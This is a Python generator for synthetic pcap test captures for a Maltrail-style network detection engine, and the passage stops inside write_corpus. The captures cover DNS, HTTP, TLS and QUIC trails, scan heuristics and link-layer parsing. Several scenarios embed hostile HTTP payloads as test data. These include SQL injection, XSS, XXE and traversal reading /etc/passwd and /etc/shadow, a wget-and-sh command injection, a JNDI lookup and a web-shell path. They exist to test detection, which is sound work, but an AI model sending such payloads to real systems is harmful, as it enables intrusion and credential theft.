"""The project's own scenario corpus: one small capture per scenario, generated, never committed.

Each scenario is a function returning (linktype, [(ts_ns, frame), ...]) built with
engine/sources/synthetic.py; `write_corpus(dir)` writes every scenario as DIR/<name>.pcap (or .pcapng for
the mixed-link-type one). manifest.toml beside this file says, per scenario, exactly which events
must come out (Maltrail lines without the timestamp). Timestamps are pinned (2026-03-01 UTC plus
fixed steps); nothing depends on the wall clock.

Run `python tests/corpus/generate.py OUTDIR` to look at the captures with tcpdump/tshark.
"""

from __future__ import annotations

import os
import struct
import sys

from engine.sources import synthetic as g
from workers.batch import (
    LINKTYPE_ETHERNET, LINKTYPE_IPV4, LINKTYPE_LINUX_SLL, LINKTYPE_LINUX_SLL2, LINKTYPE_NULL, LINKTYPE_RAW,
)

T0 = 1_772_323_200 * 1_000_000_000  # 2026-03-01 00:00:00 UTC
CLIENT, CLIENT6, RESOLVER, SERVER = "10.0.0.1", "2001:db8:1::1", "10.0.0.53", "198.18.0.80"
SCENARIOS = {}


def scenario(fn):
    SCENARIOS[fn.__name__] = fn
    return fn


def _ts(frames, step_ms=10, linktype=LINKTYPE_ETHERNET):
    return linktype, [(T0 + i * step_ms * 1_000_000, f) for i, f in enumerate(frames)]


def _dns(name, sport=40000, qtype=1, src=CLIENT, dst=RESOLVER, vlans=()):
    return g.udp_frame(src, dst, sport, 53, g.dns_query(name, qtype), vlans=vlans)


def _http(payload, sport=40100, dst=SERVER, dport=80, src=CLIENT):
    return g.tcp_frame(src, dst, sport, dport, g.TCP_PSH | g.TCP_ACK, payload)


def reset_answer(src, dst, sport, dport, ack):
    """A closed port's answer to a segment without ACK (a SYN or a stealth probe): RST+ACK with
    sequence number 0, acknowledging the probe (RFC 9293 3.10.7.1)."""
    l4 = g.tcp(src, dst, sport, dport, g.TCP_RST | g.TCP_ACK, seq=0, ack=ack, window=0)
    return g.ether(g.ip_packet(src, dst, 6, l4), g.ethertype_for(src))


def port_unreachable(src, dst, probe_frame):
    """ICMP destination unreachable (port) from `src`, quoting the probe's IPv4 header and the
    first 8 bytes of its transport header, as RFC 792 has it."""
    ip = probe_frame[14:]
    quoted = ip[:(ip[0] & 0x0F) * 4 + 8]
    body = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
    return g.ether(g.ipv4(src, dst, 1, body[:2] + struct.pack("!H", g.internet_checksum(body)) + body[4:]))


# --- DNS ---------------------------------------------------------------------------------------

@scenario
def dns_exact():
    return _ts([_dns("evil-exact.com")])


@scenario
def dns_parent():
    return _ts([_dns("www.evil-parent.net", 40001), _dns("a.b.evil-parent.net", 40002)])


@scenario
def dns_not_a_parent():
    """Label boundaries: notevil-parent.net is not under evil-parent.net."""
    return _ts([_dns("notevil-parent.net", 40003), _dns("evil-parent.net.example-cdn.org", 40004)])


@scenario
def dns_every_qtype():
    """AAAA, TXT, MX and HTTPS queries are checked too (Maltrail skips AAAA)."""
    return _ts([_dns("evil-exact.com", 40010 + i, qtype) for i, qtype in enumerate((28, 16, 15, 65))])


@scenario
def dns_regex():
    return _ts([_dns("c2123.regex-evil.com", 40020), _dns("c2.regex-evil.com", 40021)])


@scenario
def dns_over_tcp():
    q1, q2 = g.dns_query("evil-exact.com"), g.dns_query("clean-name.org", ident=2)
    payload = struct.pack("!H", len(q1)) + q1 + struct.pack("!H", len(q2)) + q2
    return _ts([g.tcp_frame(CLIENT, RESOLVER, 40030, 53, g.TCP_PSH | g.TCP_ACK, payload)])


@scenario
def dns_ignored_suffixes():
    return _ts([_dns("evil-exact.com.local", 40040), _dns("1.0.0.10.in-addr.arpa", 40041, 12),
                _dns("printer.lan", 40042)])


@scenario
def dns_answers_sinkhole_parking():
    return _ts([g.udp_frame(RESOLVER, CLIENT, 53, 40050, g.dns_response("victim-site.com", ["198.51.100.90"])),
                g.udp_frame(RESOLVER, CLIENT, 53, 40051, g.dns_response("parked-site.org", ["198.51.100.91"])),
                g.udp_frame(RESOLVER, CLIENT, 53, 40052, g.dns_response("fine-site.org", ["93.184.216.34"]))])


@scenario
def dns_tunnel_name_characters():
    """A trail with characters DNS carries but hostnames do not ('=', as DNS tunnels query) is
    kept at build, and matches the name and its subdomains in UDP and TCP queries and a TLS
    server name; a name without the '=' does not match."""
    q = g.dns_query("q1.AAAA.=auth.tunnel-evil.org")
    return _ts([_dns("AAAA.=auth.tunnel-evil.org", 40070),
                g.tcp_frame(CLIENT, RESOLVER, 40071, 53, g.TCP_PSH | g.TCP_ACK, struct.pack("!H", len(q)) + q),
                _http(g.tls_client_hello("aaaa.=auth.tunnel-evil.org"), 40072, "198.18.0.80", 443),
                _dns("aaaa.auth.tunnel-evil.org", 40073), _dns("bbbb.=auth.tunnel-evil.org", 40074)])


@scenario
def dns_to_listed_resolver():
    return _ts([g.udp_frame(CLIENT, "203.0.113.67", 40060, 53, g.dns_query("anything.org"))])


# --- HTTP --------------------------------------------------------------------------------------

@scenario
def http_host_trail():
    return _ts([_http(g.http_request("GET", "/", "www.host-evil.info", "Mozilla/5.0"))])


@scenario
def http_path_trail():
    return _ts([_http(g.http_request("GET", "/gate/panel.php?id=42", "innocent-blog.org", "Mozilla/5.0"))])


@scenario
def http_host_path_trail():
    return _ts([_http(g.http_request("GET", "/drop/payload", "files-evil.biz", "curl/8.0"), 40110)])


@scenario
def http_whole_host_trail():
    """A whole-host trail ("host/") is written alone, as Maltrail writes it, whatever the path: so
    the client's second request folds into the first's noise-control group."""
    return _ts([_http(g.http_request("GET", "/anything/at/all.html", "whole-host-evil.biz", "curl/8.0"), 40120),
                _http(g.http_request("GET", "/?q=1", "whole-host-evil.biz", "curl/8.0"), 40121),
                _http(g.http_request("GET", "/tablone.png", "198.51.100.185", "curl/8.0"), 40122, "198.51.100.185")])


@scenario
def http_url_trail_query_dropped():
    """The trail slash-evil.biz/line/?fields=x loses its query at build; the trailing '/' left
    over goes too (Maltrail strips it from every candidate), so it matches the requests it names.
    /lines and another host's /line/ do not match."""
    return _ts([_http(g.http_request("GET", "/line/?fields=x", "slash-evil.biz"), 40125),
                _http(g.http_request("GET", "/line/", "slash-evil.biz"), 40126),
                _http(g.http_request("GET", "/lines", "slash-evil.biz"), 40127),
                _http(g.http_request("GET", "/line/", "slash-good.biz"), 40128)])


@scenario
def http_param_trail():
    return _ts([_http(g.http_request("GET", "/track.php?uid=123&x=1", "ads-site.org", "Mozilla/5.0"), 40130)])


@scenario
def http_post_form_trail():
    return _ts([_http(g.http_request("POST", "/api/submit", "collector-site.org", "Mozilla/5.0",
                                     body=b"data=beacon"), 40140)])


@scenario
def http_proxy_absolute_uri():
    return _ts([_http(g.http_request("GET", "http://www.host-evil.info/gate/panel.php", "proxy.corp-net.org",
                                     "Mozilla/5.0"), 40150, "10.0.0.3", 3128)])


@scenario
def http_connect():
    return _ts([_http(g.http_request("CONNECT", "evil-exact.com:443", "evil-exact.com:443"), 40160, "10.0.0.3", 3128)])


@scenario
def http_user_agent_trail():
    return _ts([_http(g.http_request("GET", "/", "clean-site.org", "EvilBot/2.1 (compatible)"), 40170)])


@scenario
def http_listed_ip_with_host():
    return _ts([_http(g.http_request("GET", "/", "front.cdn-site.org", "Mozilla/5.0"), 40180, "203.0.113.70")])


@scenario
def http_on_odd_port():
    return _ts([_http(g.http_request("GET", "/gate/panel.php", "odd-port-site.org", "Mozilla/5.0"), 40190,
                      SERVER, 8081)])


# --- TLS and QUIC server names -------------------------------------------------------------------

@scenario
def tls_sni():
    return _ts([_http(g.tls_client_hello("login.tls-evil.org"), 40200, SERVER, 443),
                _http(g.tls_client_hello("clean-site.org"), 40201, SERVER, 443)])


@scenario
def tls_sni_ipv6_odd_port():
    return _ts([g.tcp_frame(CLIENT6, "2001:db8:2::80", 40210, 8443, g.TCP_PSH | g.TCP_ACK,
                            g.tls_client_hello("tls-evil.org"))])


@scenario
def quic_v1_sni():
    return _ts([g.udp_frame(CLIENT, SERVER, 40220, 443, g.quic_initial("quic-evil.org"))])


@scenario
def quic_v2_sni():
    return _ts([g.udp_frame(CLIENT, SERVER, 40230, 443, g.quic_initial("cdn.quic-evil.org", version=0x6B3343CF))])


# --- IP trails ---------------------------------------------------------------------------------

@scenario
def ip_tcp_handshake():
    """SYN, SYN-ACK, ACK and data of one flow: one event (client -> server), counted 4 times."""
    return _ts([g.tcp_frame(CLIENT, "203.0.113.66", 40300, 443, g.TCP_SYN),
                g.tcp_frame("203.0.113.66", CLIENT, 443, 40300, g.TCP_SYN | g.TCP_ACK),
                g.tcp_frame(CLIENT, "203.0.113.66", 40300, 443, g.TCP_ACK),
                g.tcp_frame(CLIENT, "203.0.113.66", 40300, 443, g.TCP_PSH | g.TCP_ACK, b"x" * 40)])


@scenario
def ip_midflow_reply_only():
    """Only the server's packets were captured (asymmetric span): still reported client -> server."""
    return _ts([g.tcp_frame("203.0.113.66", CLIENT, 443, 40310, g.TCP_PSH | g.TCP_ACK, b"y" * 40)])


@scenario
def ip_port_trail():
    return _ts([g.tcp_frame(CLIENT, "198.51.100.44", 40320, 8443, g.TCP_SYN),
                g.tcp_frame(CLIENT, "198.51.100.44", 40321, 8444, g.TCP_SYN)])


@scenario
def ip_cidr_trail():
    return _ts([g.tcp_frame("192.0.2.200", CLIENT, 51000, 22, g.TCP_SYN),
                g.tcp_frame("192.0.2.100", CLIENT, 51001, 22, g.TCP_SYN)])


@scenario
def ipv6_trails():
    return _ts([g.tcp_frame(CLIENT6, "2001:db8:bad::1", 40330, 80, g.TCP_SYN),
                g.tcp_frame(CLIENT6, "2001:db8:bad::2", 40331, 443, g.TCP_SYN),
                g.tcp_frame(CLIENT6, "2001:db8:bad::2", 40332, 444, g.TCP_SYN)])


@scenario
def icmp_echo():
    return _ts([g.icmp_frame(CLIENT, "203.0.113.66"), g.icmp_frame("203.0.113.66", CLIENT, reply=True)])


@scenario
def udp_to_malware():
    return _ts([g.udp_frame(CLIENT, "203.0.113.66", 40340, 4444, b"beacon")])


@scenario
def fp_rules():
    """Maltrail's false-positive rules: connecting to a listed attacker, a parking site off the web
    ports, and inbound TCP from a malware-listed client raise nothing; a parking site on 80 does."""
    return _ts([g.tcp_frame(CLIENT, "203.0.113.67", 40350, 443, g.TCP_SYN),
                g.tcp_frame(CLIENT, "203.0.113.68", 40351, 8080, g.TCP_SYN),
                g.tcp_frame("203.0.113.69", CLIENT, 51500, 22, g.TCP_SYN),
                g.tcp_frame(CLIENT, "203.0.113.68", 40352, 80, g.TCP_SYN)])


@scenario
def repeated_syns():
    """Eight identical SYNs: the first at once, the other seven condensed into one record."""
    return _ts([g.tcp_frame(CLIENT, "203.0.113.66", 40360, 443, g.TCP_SYN)] * 8, step_ms=500)


@scenario
def ip_scanner_range_as_server():
    """Connecting to a server in a scanner-labelled range, to a mass-scanner address or to an
    attacker range is our own traffic answering it (Maltrail's "attacker" rule, the scanner labels
    included): silent. The listed side as the client is reported; a malware family whose name
    merely contains "scanner" is no scanner label."""
    ranged = "192.0.2.130"
    return _ts([g.tcp_frame(CLIENT, ranged, 40500, 443),
                g.tcp_frame(ranged, CLIENT, 443, 40500, g.TCP_SYN | g.TCP_ACK),
                g.tcp_frame(CLIENT, ranged, 40500, 443, g.TCP_ACK),
                g.tcp_frame(CLIENT, ranged, 40500, 443, g.TCP_PSH | g.TCP_ACK, b"x" * 40),
                g.tcp_frame(CLIENT, "198.51.100.170", 40501, 22),
                g.tcp_frame(CLIENT, "203.0.113.80", 40502, 80),
                g.tcp_frame(CLIENT, "203.0.113.81", 40503, 443),
                g.tcp_frame("192.0.2.140", CLIENT, 51010, 22),
                g.tcp_frame("203.0.113.80", CLIENT, 51011, 23)])


@scenario
def probe_answers():
    """A listed prober's SYN, FIN and NULL probes from port 41000 and the victim's answers: RST+ACK
    with sequence number 0 from closed ports below and above the prober's port, and an ICMP port
    unreachable for a UDP probe. Every answer is the prober's event, oriented from the prober;
    none is an event with the victim as its source."""
    prober, victim = "203.0.113.82", "198.18.0.9"
    frames = []
    for port, flags in ((22, g.TCP_SYN), (80, g.TCP_SYN), (50000, g.TCP_SYN), (50001, g.TCP_FIN), (50002, 0)):
        frames.append(g.tcp_frame(prober, victim, 41000, port, flags))
        # the probe's sequence number is 1; a SYN or FIN takes one more
        frames.append(reset_answer(victim, prober, port, 41000, 2 if flags else 1))
    probe = g.udp_frame(prober, victim, 41001, 161, b"\x30\x26")
    return _ts(frames + [probe, port_unreachable(victim, prober, probe)])


# --- heuristics (default settings) -------------------------------------------------------------------
SCANNER, TARGET, LOCAL_HOST = "203.0.113.9", "198.18.0.7", "10.0.0.7"


def _at(frames_with_s):
    """(seconds after T0, frame) pairs, in the order given."""
    return LINKTYPE_ETHERNET, [(T0 + int(sec * 1e9), f) for sec, f in frames_with_s]


@scenario
def scan_tcp_syn():
    """12 ports in 22 s fire at the 11th (> 10 in 30 s); 12 ports 4 s apart never reach 11 in 30 s."""
    fast = [(i * 2, g.tcp_frame(SCANNER, TARGET, 40000 + i, 1000 + i, g.TCP_SYN)) for i in range(12)]
    slow = [(i * 4 + 0.5, g.tcp_frame("203.0.113.10", TARGET, 40100 + i, 2000 + i, g.TCP_SYN)) for i in range(12)]
    return _at(sorted(fast + slow, key=lambda x: x[0]))


@scenario
def scan_tcp_stealth():
    """NULL, FIN and XMAS probes count; retransmissions to one port do not add; bare ACKs never count."""
    kinds = (0, g.TCP_FIN, g.TCP_FIN | g.TCP_PSH | g.TCP_URG)
    probes = [(i, g.tcp_frame(SCANNER, TARGET, 40200, 3000 + i, kinds[i % 3])) for i in range(11)]
    probes.append((11, g.tcp_frame(SCANNER, TARGET, 40200, 3000, 0)))
    acks = [(i + 0.5, g.tcp_frame("203.0.113.11", TARGET, 40300, 4000 + i, g.TCP_ACK)) for i in range(20)]
    return _at(sorted(probes + acks, key=lambda x: x[0]))


@scenario
def scan_udp():
    """11 small datagrams to 11 ports fire; QUIC-sized datagrams and traceroute ports do not count."""
    probes = [(i, g.udp_frame(SCANNER, TARGET, 40400, 5000 + i, b"\0" * 8)) for i in range(11)]
    quic = [(i + 0.2, g.udp_frame("203.0.113.12", TARGET, 40401, 6000 + i, b"\xc0" + b"\0" * 1199)) for i in range(11)]
    trace = [(i + 0.4, g.udp_frame("203.0.113.13", TARGET, 40402, 33434 + i, b"\0" * 32)) for i in range(11)]
    return _at(sorted(probes + quic + trace, key=lambda x: x[0]))


# A real UDP scan's 39 ports: 10 well-known ones and 29 of Windows' dynamic RPC range, each probe
# from a new source port (the scanner's ephemeral range), so most probes go to a port above the
# one they come from.
UDP_SCAN_PORTS = (7, 69, 111, 123, 137, 161, 500, 514, 520, 623) + tuple(range(49152, 49181))


@scenario
def scan_udp_source_ports():
    """39 probes within 20 s, each from a new source port, 29 of them to a port above it: the
    scanner is reported from the 11th probe on, whatever the port order. The victim's answers
    (NTP, SNMP and NetBIOS replies from their well-known ports, two small replies from high ports,
    ICMP port unreachable for the rest) never make it a scanner."""
    scanner, victim = "203.0.113.15", "198.18.0.10"
    order = sorted(UDP_SCAN_PORTS, key=lambda port: (port * 7919) % 101)     # interleaved, pinned
    frames = []
    for i, port in enumerate(order):
        sport = 33000 + (i * 7919) % 16000
        probe = g.udp_frame(scanner, victim, sport, port, b"\0" * 8)
        frames.append((i * 0.5, probe))
        if port in (123, 137, 161, 49153, 49160):
            frames.append((i * 0.5 + 0.01, g.udp_frame(victim, scanner, port, sport, b"\x1c" * 48)))
        elif i % 3 == 0:
            frames.append((i * 0.5 + 0.01, port_unreachable(victim, scanner, probe)))
    return _at(frames)


@scenario
def udp_service_answers():
    """A client asks one server's SNMP and NTP ports from a new source port each time: the
    server's small answers, from its well-known ports to a dozen client ports, are no UDP scan."""
    server = "10.0.0.20"
    frames = []
    for i in range(14):
        service = (161, 123)[i % 2]
        frames.append((i * 1.0, g.udp_frame(CLIENT, server, 50000 + i * 37, service, b"\x30" * 40)))
        frames.append((i * 1.0 + 0.01, g.udp_frame(server, CLIENT, service, 50000 + i * 37, b"\x30" * 48)))
    return _at(frames)


@scenario
def scan_infection():
    """A local host reaching 33 hosts on 445 fires once the 33rd is reached; an outside source
    doing the same is a port sweep, not an infection."""
    local = [(i * 0.1, g.tcp_frame(LOCAL_HOST, "10.9.%d.%d" % (i // 200, i % 200 + 1), 41000 + i, 445)) for i in range(33)]
    outside = [(i * 0.1 + 0.05, g.tcp_frame("203.0.113.14", "10.8.0.%d" % (i + 1), 41100 + i, 445)) for i in range(33)]
    return _at(local + outside)


@scenario
def scan_web():
    """11 first path segments from one client to one server fire; one segment with many queries does not."""
    scan = [(i * 0.5, _http(g.http_request("GET", "/probe%d/index.html" % i, "victim.example"), 42000 + i))
            for i in range(11)]
    normal = [(i * 0.5 + 0.25, _http(g.http_request("GET", "/search?q=%d" % i, "shop.example"), 42100 + i,
                                     dst="198.18.0.81")) for i in range(11)]
    return _at(sorted(scan + normal, key=lambda x: x[0]))


def _nx(name, sport, src=RESOLVER, dst=CLIENT):
    return g.udp_frame(src, dst, 53, sport, g.dns_response(name, rcode=3))


@scenario
def dns_nxdomain_name():
    """21 NXDOMAIN answers for one name in an hour: one event naming it."""
    return _at([(i * 10, _nx("gone.missing-host.org", 43000 + i)) for i in range(21)])


@scenario
def dns_nxdomain_parent():
    """21 NXDOMAIN answers for different names of one domain: one event listing them; the hour
    boundary restarts the count (20 more the next hour stay silent)."""
    first = [(i, _nx("n%02d.nx-parent.org" % i, 43100 + i)) for i in range(21)]
    later = [(3600 + i, _nx("m%02d.nx-parent.org" % i, 43200 + i)) for i in range(20)]
    return _at(first + later)


@scenario
def dns_dga():
    """NXDOMAIN for a high-entropy and a consonant-heavy name fire; an ordinary typo does not."""
    return _at([(0, _nx("qzxwvjkplmbnrtyh.com", 43300)), (1, _nx("bbbbcccddddfffggg.net", 43301)),
                (2, _nx("gooogle.com", 43302))])


@scenario
def dns_long_name():
    """A first label over 24 characters without a hyphen fires; with a hyphen, or a blogspot name, it does not."""
    return _at([(0, _dns("abcdefghijklmnopqrstuvwxyz0123.tunnel-test.org", 43400)),
                (1, _dns("abcdefghijkl-mnopqrstuvwxyz0123.tunnel-test.org", 43401)),
                (2, _dns("abcdefghijklmnopqrstuvwxyz0123.blogspot.com", 43402))])


@scenario
def dns_exhaustion():
    """1,001 distinct subdomains of one domain within 60 s: the 1,001st fires; a reverse lookup
    style (numeric) first label is never counted."""
    frames = [(i * 0.05, _dns("x%04d.exhaust-test.org" % i, 44000 + i % 20000)) for i in range(1001)]
    frames += [(51 + i * 0.001, _dns("%d.exhaust-num.org" % i, 45000 + i)) for i in range(1001)]
    return _at(frames)


_ATTACKS = (
    "/items.php?id=1%20UNION%20ALL%20SELECT%20name,pass%20FROM%20users",
    "/login?user=admin%27%20OR%20%271%27=%271",
    "/q?x=/text()=%27a%27",
    "/i.php?c=%3C?php%20system(1);",
    "/ldap?u=*)(%7C(uid=*",
    "/s?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/x?d=%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E",
    "/collect?imei=356938035643809",
    "/.git/config",
    "/cgi-bin/x?c=;wget%20http://198.51.100.7/x.sh",
    "/view?f=../../../../etc/shadow",
    "/uploads/c99shell.php",
    "/w00tw00t.at.blackhats",
    "/router/apply.cgi?dnsserver1=198.51.100.53",
)


@scenario
def http_attacks():
    """One request per attack family, a POST body attack, and relative references that are not traversal."""
    frames = [(i, _http(g.http_request("GET", target, "site%d.example" % i), 46000 + i, "198.18.1.%d" % (i + 1)))
              for i, target in enumerate(_ATTACKS)]
    frames.append((20, _http(g.http_request("POST", "/search", "post.example",
                                            body=b"q=1 UNION SELECT pwd FROM users"), 46100, "198.18.2.1")))
    frames.append((21, _http(g.http_request("GET", "/a/b/../images/../js/app.js", "site.example"), 46101, "198.18.2.2")))
    return _at(frames)


@scenario
def http_form_encoded_attacks():
    """'+' is a space in a query and a form body (application/x-www-form-urlencoded): SQL injection
    and a command spelled with '+' fire, in a query and in a POST body. A '+' in the path stays a
    '+', and an encoded "%2B" is a '+': those requests are clean."""
    reqs = [("GET", "/item.php?id=1+union+select+username,password+from+users", b""),
            ("GET", "/news.php?id=7+and+1%3D1%23", b""),
            ("POST", "/login.php", b"user=admin&pass=x%27+or+%271%27%3D%271"),
            ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws", b""),
            ("GET", "/docs/union+select+guide.html?page=2", b""),
            ("GET", "/search?q=c%2B%2B+templates&lang=en", b""),
            ("POST", "/calc", b"expr=1%2B1%3D2+and+more")]
    return _at([(i, _http(g.http_request(method, target, "form%d.example" % i, body=body), 46200 + i,
                          "198.18.6.%d" % (i + 1))) for i, (method, target, body) in enumerate(reqs)])


@scenario
def http_attack_labels():
    """A request that matches several attack families gets the label of the first in Maltrail's
    order: running a command comes before the file named (the IIS traversal worms' cmd.exe), SQL
    injection before the traversal beside it. A JNDI lookup is remote code execution (Maltrail's
    ${...} pattern would call it template injection)."""
    targets = ["/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
               "/cgi-bin/test.cgi?cmd=cat+/etc/passwd",
               "/a.php?file=/etc/passwd&id=1+union+select+2",
               "/hudson?x=${jndi:ldap://198.51.100.1/a}&f=../../../etc/passwd"]
    return _at([(i, _http(g.http_request("GET", target, "labels%d.example" % i), 46300 + i, "198.18.7.%d" % (i + 1)))
                for i, target in enumerate(targets)])


@scenario
def loopback_traffic():
    """Traffic on 127.0.0.0/8 and ::1 (a sensor capturing its own host): an attack through a
    reverse proxy on loopback, a local port scan and an IPv6 loopback attack are dropped (and
    counted); DNS events stay: a query to the local stub resolver and a listed Host header."""
    frames = [(0, _http(g.http_request("GET", "/item.php?id=1+union+select+1,2", "app.example"), 45500,
                        "127.0.0.1", 8080, src="127.0.0.1")),
              (1, _http(g.http_request("GET", "/", "evil-exact.com"), 45501, "127.0.0.1", 8080, src="127.0.0.1")),
              (2, _dns("evil-exact.com", 45502, src="127.0.0.1", dst="127.0.0.53")),
              (3, _http(g.http_request("GET", "/v?f=../../../../etc/passwd", "app6.example"), 45503, "::1", 8080,
                        src="::1"))]
    frames += [(4 + i * 0.1, g.tcp_frame("127.0.0.1", "127.0.0.2", 45600 + i, 1000 + i, g.TCP_SYN)) for i in range(12)]
    return _at(frames)


@scenario
def http_downloads():
    """Short-named executables from outside fire; long names, local servers, /bin/ paths and
    queries with parameters do not. IoT droppers from bare IPs, proxy probes and attack-tool user
    agents fire; an antivirus updater that happens to name one does not."""
    reqs = [
        ("/setup.exe", "dl.example", "198.18.3.1", None),
        ("/files/update.ps1", "dl.example", "198.18.3.2", None),
        ("/installer-for-windows.exe", "dl.example", "198.18.3.3", None),
        ("/setup.exe", "intranet.example", "10.1.1.1", None),
        ("/bin/tool.exe", "dl.example", "198.18.3.4", None),
        ("/get.exe?id=7", "dl.example", "198.18.3.5", None),
        ("/bins/sora.arm7", "198.18.3.6", "198.18.3.6", None),
        ("/index.html", "ua.example", "198.18.3.7", "sqlmap/1.7#stable (https://sqlmap.org)"),
        ("/index.html", "ua.example", "198.18.3.8", "Sophos nmap scripting engine updater"),
    ]
    frames = [(i, _http(g.http_request("GET", target, host, agent), 47000 + i, dst))
              for i, (target, host, dst, agent) in enumerate(reqs)]
    frames.append((20, _http(g.http_request("GET", "http://proxy-judge.example/check?x=1", "198.18.3.9"), 47100,
                             "198.18.3.9")))
    return _at(frames)


def _response(payload, sport=80, src="198.18.4.1", dport=47500):
    return g.tcp_frame(src, CLIENT, sport, dport, g.TCP_PSH | g.TCP_ACK, payload)


@scenario
def http_responses():
    """Sinkhole servers, a seized-domain page and a shell-script content type fire; an ordinary page does not."""
    return _at([
        (0, _response(b"HTTP/1.1 200 OK\r\nServer: sinkhole\r\nContent-Length: 0\r\n\r\n", src="198.18.4.1", dport=47500)),
        (1, _response(b"HTTP/1.1 200 OK\r\nX-Sinkhole: malware\r\n\r\n", src="198.18.4.2", dport=47501)),
        (2, _response(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><title>This domain has been "
                      b"seized by the FBI</title></html>", src="198.18.4.3", dport=47502)),
        (3, _response(b"HTTP/1.1 200 OK\r\nContent-Type: text/x-shellscript\r\n\r\n#!/bin/sh\n", src="198.18.4.4",
                      dport=47503)),
        (4, _response(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>Welcome</title>", src="198.18.4.5",
                      dport=47504)),
    ])


@scenario
def http_missing_host():
    """A request without a Host header: silent with the default settings (missing_host is off,
    as Maltrail's CHECK_MISSING_HOST is); tests/test_heuristics.py turns it on."""
    return _at([(0, _http(b"GET /cfg.bin HTTP/1.0\r\nUser-Agent: x\r\n\r\n", 48100, "198.18.5.1"))])


@scenario
def http_forwarded_for():
    """Behind a reverse proxy, the attack is attributed to the client X-Forwarded-For names."""
    req = g.http_request("GET", "/view?f=../../../../etc/passwd", "app.example",
                         headers=(("X-Forwarded-For", "198.51.100.23, 10.0.0.2"),))
    return _at([(0, _http(req, 48000, "10.0.0.80", 8080, src="10.0.0.2"))])


# --- link layers and IP options --------------------------------------------------------------------

def _ip_only(frame: bytes) -> bytes:
    return frame[14:]  # strip the Ethernet header pcapgen added


@scenario
def link_qinq():
    syn = g.ipv4(CLIENT, "203.0.113.66", 6, g.tcp(CLIENT, "203.0.113.66", 40400, 443))
    return _ts([g.ether(syn, vlans=(10, 20), tag_type=0x88A8),
                g.ether(g.ipv4(CLIENT, RESOLVER, 17, g.udp(CLIENT, RESOLVER, 40401, 53, g.dns_query("evil-exact.com"))),
                        vlans=(30, 40, 50))])


@scenario
def link_pppoe():
    ip = g.ipv4(CLIENT, "203.0.113.66", 6, g.tcp(CLIENT, "203.0.113.66", 40410, 443))
    pppoe = struct.pack("!BBHH", 0x11, 0, 0x1234, len(ip) + 2) + b"\x00\x21" + ip
    lcp = struct.pack("!BBHH", 0x11, 0, 0x1234, len(ip) + 2) + b"\xc0\x21" + ip  # LCP: not IP
    return _ts([g.ether(pppoe, 0x8864), g.ether(lcp, 0x8864)])


@scenario
def link_sll():
    ip = _ip_only(g.tcp_frame(CLIENT, "203.0.113.66", 40420, 443))
    header = struct.pack("!HHH8sH", 0, 1, 6, b"\x02\x00\x00\x00\x00\x01\x00\x00", 0x0800)
    return _ts([header + ip], linktype=LINKTYPE_LINUX_SLL)


@scenario
def link_sll2():
    ip = _ip_only(g.tcp_frame(CLIENT, "203.0.113.66", 40430, 443))
    header = struct.pack("!HHIHBB8s", 0x0800, 0, 2, 1, 0, 6, b"\x02\x00\x00\x00\x00\x01\x00\x00")
    return _ts([header + ip], linktype=LINKTYPE_LINUX_SLL2)


@scenario
def link_raw():
    return _ts([_ip_only(g.tcp_frame(CLIENT, "203.0.113.66", 40440, 443))], linktype=LINKTYPE_RAW)


@scenario
def link_ipv4_ipv6_dlt():
    return _ts([_ip_only(g.tcp_frame(CLIENT, "203.0.113.66", 40450, 443))], linktype=LINKTYPE_IPV4)


@scenario
def link_null_loopback():
    ip = _ip_only(g.tcp_frame(CLIENT, "203.0.113.66", 40460, 443))
    return _ts([struct.pack("<I", 2) + ip], linktype=LINKTYPE_NULL)


@scenario
def ipv4_options_and_fragments():
    l4 = g.tcp(CLIENT, "203.0.113.66", 40470, 443)
    with_options = g.ipv4(CLIENT, "203.0.113.66", 6, l4, options=b"\x01\x01\x01\x00" * 2)
    first = g.ipv4(CLIENT, "198.51.100.44", 6, g.tcp(CLIENT, "198.51.100.44", 40471, 8443), frag=0x2000)
    later = g.ipv4(CLIENT, "198.51.100.44", 6, b"\x00" * 16, frag=185)
    return _ts([g.ether(with_options), g.ether(first), g.ether(later)])


@scenario
def ipv6_extension_headers():
    tcp = g.tcp(CLIENT6, "2001:db8:bad::1", 40480, 443)
    hop = bytes([60, 0]) + b"\x01\x04\x00\x00\x00\x00"      # hop-by-hop -> destination options
    dst = bytes([44, 0]) + b"\x01\x04\x00\x00\x00\x00"      # destination options -> fragment
    frag = bytes([6, 0]) + struct.pack("!HI", 0, 7)          # fragment, offset 0 -> TCP
    return _ts([g.ether(g.ipv6(CLIENT6, "2001:db8:bad::1", 0, hop + dst + frag + tcp), 0x86DD)])


@scenario
def clean_traffic():
    frames = []
    for i in range(20):
        frames.append(_dns("www.clean%d.org" % i, 41000 + i))
        frames.append(g.tcp_frame(CLIENT, "93.184.216.%d" % (i + 1), 41000 + i, 443, g.TCP_SYN))
        frames.append(_http(g.tls_client_hello("www.clean%d.org" % i), 41000 + i, "93.184.216.%d" % (i + 1), 443))
    return _ts(frames)


# --- writing -----------------------------------------------------------------------------------

def write_pcapng_mixed(path: str) -> None:
    """Two interfaces with different link types (Ethernet and raw IPv4) in one pcapng section,
    which libpcap refuses to read and the native reader handles."""
    def block(kind, body):
        pad = (-len(body)) % 4
        total = 12 + len(body) + pad
        return struct.pack("<II", kind, total) + body + b"\0" * pad + struct.pack("<I", total)

    def epb(iface, ts_us, data):
        return block(6, struct.pack("<IIIII", iface, ts_us >> 32, ts_us & 0xFFFFFFFF, len(data), len(data)) + data)

    out = block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))
    out += block(1, struct.pack("<HHI", LINKTYPE_ETHERNET, 0, 262144))
    out += block(1, struct.pack("<HHI", LINKTYPE_IPV4, 0, 262144))
    ts = T0 // 1000
    out += epb(0, ts, _dns("evil-exact.com", 42000))
    out += epb(1, ts + 10_000, _ip_only(g.tcp_frame(CLIENT, "203.0.113.66", 42001, 443)))
    with open(path, "wb") as f:
        f.write(out)


def write_corpus(directory: str) -> dict[str, str]:
    """Writes every scenario; returns {name: path}."""
    os.makedirs(directory, exist_ok=True)
    paths = {}
    for name, fn in SCENARIOS.items():
        linktype, frames = fn()
        path = os.path.join(directory, name + ".pcap")
